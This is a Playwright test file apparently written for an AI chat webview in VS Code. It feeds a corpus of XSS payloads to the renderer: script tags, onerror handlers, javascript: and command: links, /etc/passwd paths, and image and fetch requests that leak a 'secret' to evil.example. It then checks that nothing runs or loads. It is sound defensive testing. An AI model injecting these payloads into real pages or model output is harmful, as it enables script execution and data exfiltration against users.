import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { launchChromium } from '../support/browser';
import type { ChatViewState } from '../../src/protocol/webview';
import {
  answer,
  buildChatPage,
  type ChatFiles,
  ChatTestPage,
  CONNECTED,
  DONE,
  ENGLISH,
  question,
} from '../support/chatPage';

let browser: Browser;
let files: ChatFiles;

beforeAll(async () => {
  [browser, files] = await Promise.all([launchChromium(), buildChatPage()]);
});
afterAll(() => browser.close());

/** What a model, a file name or a server could say to run a script, load something, or look like the page. */
const CORPUS = [
  '<script>window.hacked = 1</script>',
  '<img src=x onerror="window.hacked=1">',
  '<img src="https://evil.example/a.png?secret">',
  '![a](https://evil.example/b.png?secret)',
  '![a](data:image/svg+xml,<svg/onload=window.hacked=1>)',
  '[![a](https://evil.example/c.png)](https://evil.example/d)',
  '![a][ref]\n\n[ref]: https://evil.example/e.png',
  '<svg><script>window.hacked=1</script><image href="https://evil.example/f"/></svg>',
  '<svg onload=window.hacked=1>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.hacked=1>',
  '<iframe src="https://evil.example/g"></iframe><iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
  '<object data="https://evil.example/h"></object><embed src="https://evil.example/i">',
  '<link rel=stylesheet href="https://evil.example/j.css"><style>@import "https://evil.example/k.css";*{background:url(https://evil.example/l)}</style>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/m"><base href="https://evil.example/">',
  '<form action="https://evil.example/n"><input name=a autofocus onfocus=window.hacked=1><button>Send</button></form>',
  '<video poster="https://evil.example/o"><source src="https://evil.example/p"></video><audio src="https://evil.example/q" autoplay>',
  '<a href="javascript:window.hacked=1" id=x>a</a><details open ontoggle=window.hacked=1>',
  '[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) [c](&#106;avascript:window.hacked=1)',
  '[a](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%22%7D) [b](vscode://settings) [c](file:///etc/passwd)',
  '[a](data:text/html,<script>window.hacked=1</script>) [b](vbscript:x) [c](//evil.example/r) [d](relative/path)',
  '[a](mailto:a@evil.example) [b](ftp://evil.example/x) [c](tel:1) <mailto:b@evil.example> c@evil.example',
  '<javascript:window.hacked=1> <command:workbench.action.quit>',
  '[a](https://example.com "x\\" onmouseover=\\"window.hacked=1")',
  '[<img src=x onerror=window.hacked=1>](https://example.com/"><img src=x onerror=window.hacked=1>)',
  '```"><img src=x onerror=window.hacked=1> a.ts"><script>window.hacked=1</script>\n</code></pre><script>window.hacked=1</script>\n```',
  '```html\n<img src=x onerror=window.hacked=1><script>window.hacked=1</script>\n```',
  '- x\n  ```js"onload=window.hacked=1\n  </pre><img src=x onerror=window.hacked=1>\n  ```',
  '`<img src=x onerror=window.hacked=1>` **<img src=x onerror=window.hacked=1>** # <script>window.hacked=1</script>',
  '| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| <script>window.hacked=1</script> | [x](javascript:window.hacked=1) |',
  '<span data-link="command:x" class="code-button">Copy</span><pre data-fence="js">x</pre>',
  '<!--><script>window.hacked=1</script>--> <![CDATA[<script>window.hacked=1</script>]]> <?x <img src=x onerror=window.hacked=1>?>',
  '<noscript><p title="</noscript><img src=x onerror=window.hacked=1>">',
  '$\\href{javascript:window.hacked=1}{x}$ $$\\includegraphics{https://evil.example/s}$$',
  '```mermaid\ngraph TD;A["<img src=https://evil.example/t>"]-->B;click A "javascript:window.hacked=1"\n```',
  '&lt;img src=x onerror=window.hacked=1&gt; &#60;script&#62;window.hacked=1&#60;/script&#62;',
  '<x\u0000script>window.hacked=1</x\u0000script> <scr\u0000ipt>window.hacked=1</scr\u0000ipt>',
  '$\\class{x" onload="window.hacked=1}{x}$ $\\style{background:url(https://evil.example/v)}{x}$ $\\data{onload=window.hacked=1}{x}$',
  '$$\\text{<img src=x onerror=window.hacked=1>}$$ $\\url{https://evil.example/w}$ $\\unicode{x202E}$',
  '[^1] [^<img src=x>]\n\n[^1]: <img src=x onerror=window.hacked=1> ![a](https://evil.example/x.png)',
  '`command:workbench.action.quit` `../../etc/passwd` `file:///etc/passwd` `vscode://x/y.ts` `\\\\evil.example\\share\\a.ts`',
  '```ts ../../../etc/passwd\nlet x;\n```\n\n```ts https://evil.example/y.ts\nlet x;\n```',
  '- [x] <img src=x onerror=window.hacked=1>\n- [ ] [a](command:x)',
  '&#60;img src=x onerror=window.hacked=1&#62; [a](&#99;ommand&#58;x) ![a](&#104;ttps://evil.example/z.png)',
  '{{constructor.constructor("window.hacked=1")()}} <div style="background:url(https://evil.example/u)">',
];

describe('hostile output', () => {
  it.each(['whole', 'in pieces', 'unfinished'])('runs nothing and loads nothing (%s)', async (way) => {
    const chat = await ChatTestPage.open(browser, files);
    const { page } = chat;
    for (const [index, text] of CORPUS.entries()) {
      const id = `a${index}`;
      await chat.send({
        type: 'entry',
        entry: answer(id, way === 'whole' ? text : '', { state: 'streaming' }),
      });
      if (way !== 'whole') {
        const pieces = text.match(/[^]{1,9}/g) ?? [];
        await chat.send(
          ...pieces.map((piece) => ({ type: 'delta', id, text: piece, reasoning: false }) as const),
        );
      }
      if (way !== 'unfinished') await chat.send({ type: 'outcome', id, outcome: DONE });
    }
    for (const link of await page.locator('.markdown [role=link]').all()) await link.click();
    await page.waitForTimeout(300);

    expect(await page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(chat.strayRequests).toEqual([]);
    expect(chat.problems).toEqual([]);
    expect(await page.evaluate(findForbidden)).toEqual([]);
    expect((await chat.posted()).filter(({ type }) => type === 'openFile')).toEqual([]);
    const links = (await chat.posted()).flatMap((message) =>
      message.type === 'openLink' ? [message.url] : [],
    );
    expect(links.length).toBeGreaterThan(0);
    expect(links.filter((url) => !/^https?:\/\//.test(url))).toEqual([]);
    await chat.close();
  });

  it('keeps what is not the model’s from running as well: questions, reasoning, paths, names and errors', async () => {
    const chat = await ChatTestPage.open(browser, files);
    for (const text of CORPUS) {
      const chip = {
        id: '1',
        kind: 'document',
        label: text,
        startLine: 1,
        endLine: 2,
        tokens: 1,
        included: true,
        isSuggested: true,
      } as const;
      const state: ChatViewState = {
        strings: ENGLISH,
        title: text,
        models: [{ id: text, name: text, host: text, isLocal: false }],
        commands: [{ name: text, description: text, argumentHint: text, isPromptFile: true }],
        chips: [chip, { ...chip, id: '2', problem: text, note: text }],
        model: { ...CONNECTED, name: text, host: text },
        entries: [
          question('1', text, [chip]),
          {
            ...answer('2', '', { ...DONE, model: text, omitted: [text], followUps: [text], cost: text }),
            reasoning: text,
          },
          answer('3', '', { state: 'failed', message: text }),
        ],
      };
      await chat.send({ type: 'state', state }, { type: 'state', state: { ...state, entries: [] } });
      await chat.send({ type: 'state', state });
      expect(await chat.page.evaluate(findForbidden)).toEqual([]);
    }
    expect(await chat.page.evaluate(() => 'hacked' in window)).toBe(false);
    expect([...chat.strayRequests, ...chat.problems]).toEqual([]);
    await chat.close();
  });

  it('is stopped by the content security policy alone, should anything ever make HTML of it', async () => {
    const chat = await ChatTestPage.open(browser, files);
    const outcome = await chat.page.evaluate((corpus) => {
      const sinks: ((html: string) => unknown)[] = [
        (html) => (document.body.innerHTML = html),
        (html) => document.body.insertAdjacentHTML('beforeend', html),
        (html) => document.createRange().createContextualFragment(html),
        (html) => new DOMParser().parseFromString(html, 'text/html'),
        (html) => (document.createElement('script').text = html),
      ];
      const passed = sinks.flatMap((sink, index) =>
        corpus
          .filter((html) => {
            try {
              sink(html);
              return true;
            } catch (error) {
              return !(error instanceof TypeError);
            }
          })
          .map((html) => `${index}: ${html}`),
      );
      const form = document.createElement('form');
      form.action = 'https://evil.example/form';
      document.body.append(form);
      form.submit();
      new Image().src = 'https://evil.example/image';
      fetch('https://evil.example/fetch').catch(() => {});
      navigator.sendBeacon('https://evil.example/beacon');
      const frame = document.createElement('iframe');
      frame.src = 'https://evil.example/frame';
      document.body.append(frame);
      return passed;
    }, CORPUS);
    await chat.page.waitForTimeout(500);
    expect(outcome).toEqual([]);
    expect(await chat.page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(chat.strayRequests.filter((url) => url.includes('evil.example'))).toEqual([]);
    expect(chat.problems.join('\n')).toContain('Content Security Policy');
    await chat.close();
  });

  it('shows raw HTML as text and names the host of a link and of an image', async () => {
    const text =
      '<b>bold</b> [docs](https://example.com/a) ![chart](https://images.example/b.png) https://plain.example/';
    const chat = await ChatTestPage.open(browser, files, { state: { entries: [answer('1', text)] } });
    expect((await chat.page.locator('.markdown').innerText()).trim()).toBe(
      '<b>bold</b> docs (example.com) Image: chart (images.example) https://plain.example/',
    );
    await chat.close();
  });

  it('ignores messages that are not the host’s', async () => {
    const chat = await ChatTestPage.open(browser, files, { state: { entries: [question('1', 'Q')] } });
    const forged = [
      null,
      'state',
      { type: 'eval', code: 'window.hacked = 1' },
      { type: 'entry', entry: { role: 'assistant', id: '2', text: {}, reasoning: '', outcome: {} } },
      { type: '__proto__' },
    ];
    await chat.page.evaluate((all) => all.forEach((message) => window.postMessage(message)), forged);
    await chat.settle();
    expect(await chat.page.locator('.entry').count()).toBe(1);
    expect(chat.problems).toEqual([]);
    await chat.close();
  });

  it.each(['> ', '1. ', '- ', '>'])('shows what is nested too deep as text: %s', async (marker) => {
    const text = `${marker.repeat(10_000)}deep\n\nAfter it.`;
    const chat = await ChatTestPage.open(browser, files, {
      state: { entries: [answer('1', text), answer('2', 'Next')] },
    });
    await expect.poll(() => chat.page.locator('.markdown').last().innerText()).toBe('Next');
    const shown = chat.page.locator('.markdown').first();
    await expect.poll(() => shown.textContent()).toMatch(/deep\s*After it\.\s*$/);
    expect(chat.problems).toEqual([]);
    await chat.close();
  });

  const LENGTH = 10 * 1024 * 1024;
  it.each([
    { name: 'one word', text: 'a'.repeat(LENGTH) },
    { name: 'one line of words', text: 'word '.repeat(LENGTH / 5) },
    { name: 'one line of code', text: `\`\`\`js\n${'x=1;'.repeat(LENGTH / 4)}` },
    { name: 'brackets', text: '['.repeat(LENGTH) },
    { name: 'stars', text: '*a '.repeat(LENGTH / 3) },
    { name: 'characters of two units', text: `x${'👍'.repeat(LENGTH / 4)}` },
    { name: 'code of characters of two units', text: `\`\`\`\nx${'👍'.repeat(LENGTH / 4)}` },
  ])('takes 10 MB in one line in small steps: $name', async ({ text }) => {
    const chat = await ChatTestPage.open(browser, files, {
      state: { entries: [answer('1', '', { state: 'streaming' })] },
    });
    await chat.send({ type: 'delta', id: '1', text, reasoning: false });
    await chat.send({ type: 'entry', entry: question('2', 'Still there?') });
    expect(await chat.page.locator('.bubble').textContent()).toBe('Still there?');
    await chat.page.waitForTimeout(500);
    const longest = await chat.page.evaluate(() => {
      const blocks = [...document.querySelectorAll('.markdown p, .code-piece')];
      if (blocks.some(({ textContent }) => /\p{Surrogate}/u.test(textContent)))
        throw new Error('half a character');
      return {
        blocks: blocks.length,
        longest: Math.max(...blocks.map(({ textContent }) => textContent.length)),
      };
    });
    expect(longest.blocks).toBeGreaterThan(10);
    expect(longest.longest).toBeLessThanOrEqual(4000);
    await chat.close();
  });
});

/** Everything on the page that could load, run or lead somewhere, apart from the page's own script and style. */
function findForbidden(): string[] {
  const own =
    'head > meta, head > link[href$="/webview.css"], body > script[src$="/webview.js"], head > title, head > style';
  const elements =
    'script, style, link, meta, base, iframe, frame, object, embed, img, image, video, audio, source';
  const found = [...document.querySelectorAll(elements)].filter((element) => !element.matches(own));
  const attributes = [...document.querySelectorAll('body *')].flatMap((element) =>
    [...element.attributes]
      .filter(({ name }) =>
        /^(on|src|href|style|action|formaction|srcdoc|background|poster|xlink)/i.test(name),
      )
      .filter(() => !element.matches(own))
      .map(({ name }) => `${element.localName}[${name}]`),
  );
  const foreign = [
    ...document.querySelectorAll('form, input, svg:not(.icon, .meter-ring), a, math [href], math style'),
  ].filter((element) => !element.matches('form.composer'));
  return [...found, ...foreign].map(({ outerHTML }) => outerHTML).concat(attributes);
}
